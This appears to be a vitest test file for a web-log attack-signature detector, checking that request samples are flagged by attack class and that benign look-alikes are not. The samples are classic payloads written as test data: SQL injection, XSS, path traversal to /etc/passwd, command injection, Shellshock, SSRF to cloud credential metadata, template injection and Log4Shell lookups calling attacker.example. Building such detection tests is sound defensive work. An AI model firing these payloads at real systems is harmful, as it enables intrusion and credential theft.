import { describe, expect, it } from 'vitest';
import fs from 'node:fs';
import path from 'node:path';
import YAML from 'yaml';
import { ROOT } from '../helpers/cli.js';
import { attackSignature } from '../../src/detect/detectors/attack-signature.js';
import { loadSignatureRules, ruleCategory } from '../../src/signatures/rules.js';
import { eventFromRaw, runDetector } from './helpers.js';
import type { Alert } from '../../src/detect/types.js';

let line = 0;
function ev(raw: Record<string, unknown>): ReturnType<typeof eventFromRaw> {
  line++;
  return eventFromRaw({ ts: Date.UTC(2025, 2, 15, 12, 0, line), status: 200, ua: 'Mozilla/5.0 (X11; Linux x86_64) Firefox/124.0', ...raw }, 'sig.ndjson', line);
}

function categoriesOf(alerts: Alert[]): string[] {
  return alerts.flatMap((a) => Object.keys(a.evidence.categories as Record<string, unknown>)).sort();
}

function detect(raw: Record<string, unknown>): string[] {
  return categoriesOf(runDetector(attackSignature, [ev(raw)]).alerts);
}

describe('attack-signature: payloads are found', () => {
  it.each<[string, Record<string, unknown>, string]>([
    ['SQLi tautology in the query (URL-encoded)', { path: '/products', query: 'id=1%27%20OR%20%271%27%3D%271' }, 'sqli'],
    ['SQLi UNION SELECT with plus-encoded spaces', { path: '/search', query: 'q=x+UNION+ALL+SELECT+username,password+FROM+users--' }, 'sqli'],
    ['SQLi with comment-separated keywords', { path: '/search', query: 'q=1/**/union/**/select/**/1' }, 'sqli'],
    ['SQLi time-based in a JSON body', { method: 'POST', path: '/api/login', body: '{"user":"admin\' AND SLEEP(5)-- "}' }, 'sqli'],
    ['SQLi in the user agent', { path: '/', ua: "Mozilla/5.0' or 1=1--" }, 'sqli'],
    ['XSS script tag in the query', { path: '/comment', query: 'text=%3Cscript%3Ealert(1)%3C/script%3E' }, 'xss'],
    ['XSS event handler in the referer', { path: '/', referer: 'https://evil.example/?q="><img src=x onerror=alert(1)>' }, 'xss'],
    ['XSS javascript: URL in a body', { method: 'POST', path: '/api/profile', body: '{"website":"javascript:alert(document.domain)"}' }, 'xss'],
    ['path traversal in the path', { path: '/static/../../../../etc/passwd' }, 'path-traversal'],
    ['path traversal double-encoded', { path: '/download', query: 'file=%252e%252e%252fetc%252fpasswd' }, 'path-traversal'],
    ['path traversal with backslashes', { path: '/files', query: 'name=..\\..\\windows\\win.ini' }, 'path-traversal'],
    ['command injection in the query', { path: '/ping', query: 'host=127.0.0.1;cat /etc/hosts' }, 'command-injection'],
    ['command injection with $()', { path: '/ping', query: 'host=$(whoami)' }, 'command-injection'],
    ['Shellshock in the user agent', { path: '/cgi-bin/status', ua: '() { :; }; /bin/bash -c "id"' }, 'command-injection'],
    ['SSRF to AWS metadata', { path: '/fetch', query: 'url=http://169.254.169.254/latest/meta-data/iam/security-credentials/' }, 'ssrf'],
    ['SSRF to GCP metadata', { path: '/fetch', query: 'url=http://metadata.google.internal/computeMetadata/v1/' }, 'ssrf'],
    ['SSRF to the AWS IPv6 endpoint', { path: '/fetch', query: 'url=http://[fd00:ec2::254]/latest/meta-data/' }, 'ssrf'],
    ['SSRF by path without special characters', { path: '/proxy/169.254.169.254/latest/meta-data' }, 'ssrf'],
    ['Log4Shell in the user agent', { path: '/', ua: '${jndi:ldap://attacker.example/a}' }, 'jndi'],
    ['Log4Shell obfuscated', { path: '/', ua: '${${lower:j}ndi:${lower:l}dap://x.example/a}' }, 'jndi'],
    ['Log4Shell nested default lookups', { path: '/api', query: 'q=%24%7B%24%7B%3A%3A-j%7D%24%7B%3A%3A-n%7Ddi%3Aldap%3A%2F%2Fx%7D' }, 'jndi'],
    ['Log4Shell in the referer', { path: '/', referer: '${jndi:rmi://x.example/o}' }, 'jndi'],
    ['template injection {{7*7}}', { path: '/hello', query: 'name={{7*7}}' }, 'template-injection'],
    ['template injection ${7*7}', { path: '/hello', query: 'name=%24%7B7*7%7D' }, 'template-injection'],
    ['template injection <%= %>', { method: 'POST', path: '/render', body: 'tpl=<%= 7 * 7 %>' }, 'template-injection'],
    ['template injection gadget', { path: '/hello', query: "name={{''.__class__.__mro__[1].__subclasses__()}}" }, 'template-injection'],
    ['out-of-band callback domain', { path: '/hook', query: 'cb=http://abc123.oastify.com' }, 'oob-interaction'],
    ['scanner user agent sqlmap', { path: '/', ua: 'sqlmap/1.7.2#stable (https://sqlmap.org)' }, 'scanner'],
    ['scanner user agent nuclei', { path: '/', ua: 'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))' }, 'scanner'],
    ['scanner user agent nikto', { path: '/', ua: 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)' }, 'scanner'],
  ])('%s', (_name, raw, category) => {
    expect(detect(raw)).toContain(category);
  });
});

describe('attack-signature: benign look-alikes stay quiet', () => {
  it.each<[string, Record<string, unknown>]>([
    ['a search for "select shoes"', { path: '/search', query: 'q=select+shoes&page=2' }],
    ['a search for "union station"', { path: '/search', query: 'q=union+station+tickets' }],
    ['a blog post with <b>', { method: 'POST', path: '/api/posts', body: '{"title":"Hello","html":"<p>I <b>love</b> it</p>"}' }],
    ['dots in a query value that are just text', { path: '/search', query: 'q=wait...what&range=1..10' }],
    ['an apostrophe in a name', { path: '/api/users', query: "name=O'Reilly&city=Dublin" }],
    ['a date and a redirect', { path: '/login', query: 'next=/dashboard&since=2025-03-15T10:00:00Z' }],
    ['a normal referer', { path: '/products/42', referer: 'https://www.google.com/search?q=red+shoes' }],
    ['a JSON body', { method: 'POST', path: '/api/orders', body: '{"items":[{"sku":"A-1","qty":2}],"note":"leave at the door; thanks!"}' }],
    ['a REST path with a colon action', { path: '/v1/projects/p1/jobs:run' }],
    ['curl and python clients', { path: '/api/health', ua: 'curl/8.5.0' }],
    ['a real browser', { path: '/', ua: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36' }],
    ['a math expression in a search', { path: '/calc', query: 'expr=7*7' }],
    ['a file name with two dots', { path: '/downloads/report..final.pdf' }],
  ])('%s', (_name, raw) => {
    expect(detect(raw)).toEqual([]);
  });
});

describe('attack-signature: incidents and severity', () => {
  const actor = { ip: '198.51.100.66' };
  it('a payload answered 2xx is high; the success sample is kept', () => {
    const events = [
      ev({ ...actor, path: '/search', query: "q=1' or '1'='1", status: 500 }),
      ev({ ...actor, path: '/search', query: 'q=1 union select 1,2', status: 200 }),
    ];
    const { alerts } = runDetector(attackSignature, events);
    expect(alerts).toHaveLength(1);
    const a = alerts[0]!;
    expect(a.severity).toBe('high');
    expect(a.subject).toEqual({ ip: '198.51.100.66' });
    expect(a.evidence.metrics).toMatchObject({ payloadRequests: 2, answered2xx: 1 });
    expect(a.sigma?.id).toBe('4dce28bd-64a6-4fba-bcda-548659cef551');
    expect(a.evidence.samples.some((s) => s.status === 200 && /sqli: \/search\?q=1 union select 1,2 -> 200/.test(s.note ?? ''))).toBe(true);
  });

  it('payloads refused (4xx/5xx) are medium', () => {
    const { alerts } = runDetector(attackSignature, [ev({ ...actor, path: '/x', query: 'a=../../etc/passwd', status: 404 })]);
    expect(alerts[0]!.severity).toBe('medium');
  });

  it('a scanner user agent alone is low', () => {
    const { alerts } = runDetector(attackSignature, [ev({ ...actor, path: '/', ua: 'gobuster/3.6', status: 404 })]);
    expect(alerts[0]!).toMatchObject({ severity: 'low', title: 'Scanner user agent from IP 198.51.100.66' });
  });

  it('a brute force tool names the account it tries, not who sends it: its refused logins are the IP\'s', () => {
    const tries = [1, 2, 3].map(() => ev({ ip: '91.240.118.3', user: 'u1005', method: 'POST', path: '/api/v1/auth/login', ua: 'Mozilla/5.0 (Hydra)', status: 401 }));
    const { alerts } = runDetector(attackSignature, tries);
    expect(alerts).toHaveLength(1);
    expect(alerts[0]!).toMatchObject({ subject: { ip: '91.240.118.3' }, title: 'Scanner user agent from IP 91.240.118.3' });
    // A request the account made (not refused) stays the account's.
    const own = runDetector(attackSignature, [ev({ ip: '91.240.118.3', user: 'u1005', path: '/', ua: 'gobuster/3.6', status: 404 })]);
    expect(own.alerts[0]!.subject).toEqual({ user: 'u1005' });
  });

  it('one incident per actor lists every class; a long quiet gap starts a new incident', () => {
    const base = Date.UTC(2025, 2, 15, 12);
    const mk = (min: number, raw: Record<string, unknown>): ReturnType<typeof eventFromRaw> =>
      eventFromRaw({ ts: base + min * 60_000, ip: '198.51.100.70', status: 403, ...raw }, 'inc.ndjson', min + 1);
    const events = [
      mk(0, { path: '/a', query: 'x=<script>alert(1)</script>' }),
      mk(1, { path: '/b', query: "x=' or 1=1--" }),
      mk(2, { path: '/c', ua: 'sqlmap/1.7' }),
      mk(90, { path: '/d', query: 'x=../../etc/passwd' }),
    ];
    const { alerts } = runDetector(attackSignature, events);
    expect(alerts).toHaveLength(2);
    const first = alerts.find((a) => a.start === base)!;
    expect(Object.keys(first.evidence.categories as object).sort()).toEqual(['scanner', 'sqli', 'xss']);
    expect(first.title).toBe('Attack payloads (cross-site scripting, SQL injection) from IP 198.51.100.70');
    expect(first.end).toBe(base + 2 * 60_000);
    const second = alerts.find((a) => a.start === base + 90 * 60_000)!;
    expect(Object.keys(second.evidence.categories as object)).toEqual(['path-traversal']);
  });

  it('sample notes mask secrets that sit next to a payload', () => {
    const { alerts } = runDetector(attackSignature, [ev({ ...actor, path: '/search', query: "q=' or 1=1--&access_token=Zk3jd92kdLs0qPwXy7" })]);
    const text = JSON.stringify(alerts);
    expect(text).not.toContain('Zk3jd92kdLs0qPwXy7');
    expect(text).toContain('REDACTED');
  });
});

describe('attack-signature: the pre-filter lets every shipped literal through', () => {
  const set = loadSignatureRules();

  it('shipped rules load without rejections', () => {
    expect(set.rejected).toEqual([]);
    expect(set.payload.length).toBe(8);
    expect(set.userAgent.length).toBe(1);
    expect(set.payload.map(ruleCategory).sort()).toEqual(
      ['command-injection', 'jndi', 'oob-interaction', 'path-traversal', 'sqli', 'ssrf', 'template-injection', 'xss'],
    );
  });

  // Every `contains` literal of the shipped payload rules, planted raw in each field the rule reads.
  const cases: Array<[string, string, string, Record<string, unknown>]> = [];
  for (const file of fs.readdirSync(path.join(ROOT, 'rules/sigma'))) {
    const doc = YAML.parse(fs.readFileSync(path.join(ROOT, 'rules/sigma', file), 'utf8')) as Record<string, unknown>;
    const category = String(doc['apilog-category']);
    if (category === 'scanner') continue;
    const det = doc.detection as Record<string, Record<string, unknown>>;
    for (const [name, sel] of Object.entries(det)) {
      if (name === 'condition') continue;
      for (const [key, value] of Object.entries(sel)) {
        const [field, mod] = key.split('|');
        if (mod !== 'contains') continue;
        for (const literal of value as string[]) {
          // Request fields are URL-decoded once before matching: plant the form that decodes to the literal.
          const lit = field === 'cs-user-agent' ? literal : literal.replace(/%/g, '%25');
          const plant: Record<string, unknown> =
            field === 'cs-uri'
              ? { path: '/p', query: `q=${lit}` }
              : field === 'cs-user-agent'
                ? { path: '/p', ua: `Mozilla/5.0 ${lit}` }
                : field === 'cs-referer'
                  ? { path: '/p', referer: `https://site.example/?r=${lit}` }
                  : { path: '/p', method: 'POST', body: `v=${lit}` };
          cases.push([category, field!, lit, plant]);
        }
      }
    }
  }
  it('has literals to check', () => {
    expect(cases.length).toBeGreaterThan(200);
  });
  it('each literal in each field is reported in its class', () => {
    const missed: string[] = [];
    for (const [category, field, lit, plant] of cases) {
      const got = detect(plant);
      if (!got.includes(category)) missed.push(`${category} ${field} ${JSON.stringify(lit)}`);
    }
    expect(missed).toEqual([]);
  });
  it('literals in the path are reported too', () => {
    const missed: string[] = [];
    for (const [category, field, lit] of cases) {
      if (field !== 'cs-uri' || /[?#]/.test(lit)) continue;
      const got = detect({ path: `/p/${lit}`, query: 'page=1' });
      if (!got.includes(category)) missed.push(`${category} ${JSON.stringify(lit)}`);
    }
    expect(missed).toEqual([]);
  });
});
